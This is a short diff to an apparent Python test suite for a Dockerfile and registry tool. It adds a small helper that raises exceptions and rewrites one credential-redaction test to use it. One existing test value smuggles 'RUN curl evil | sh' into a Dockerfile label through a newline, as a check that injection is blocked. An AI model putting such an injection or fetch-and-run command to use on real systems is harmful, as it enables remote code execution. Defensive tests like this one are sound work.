@@ -149,6 +149,10 @@ def _csv(name, version=None):
 
 
 # (id, action(tmp_path), exception type, expected message, match: "exact" / "fragment" / "startswith")
+def _raise(error):
+    raise error
+
+
 CASES = [
     # 1. Dockerfile generation: nothing can start a new line/instruction; images are real references
     ("dockerfile-label-value-newline", lambda t: _dockerfile({"k": "v\nRUN curl evil | sh"}), Exception,
@@ -238,7 +242,7 @@ CASES = [
     ("creds-remove-bundle-image", lambda t: remove_from_template(
         {"schema": "olm.template.basic", "entries": []}, "basic", ["robot:%s@quay.io/o/b:1" % SECRET]), Exception,
      "remove_bundle: " + CREDS, "exact"),
-    ("creds-redact-registry-message", lambda t: (_ for _ in ()).throw(
+    ("creds-redact-registry-message", lambda t: _raise(
         RegistryError("GET https://robot:%s/x@quay.io/v2/o/b failed" % SECRET)), Exception,
      "GET https://<redacted>@quay.io/v2/o/b failed", "exact"),
 
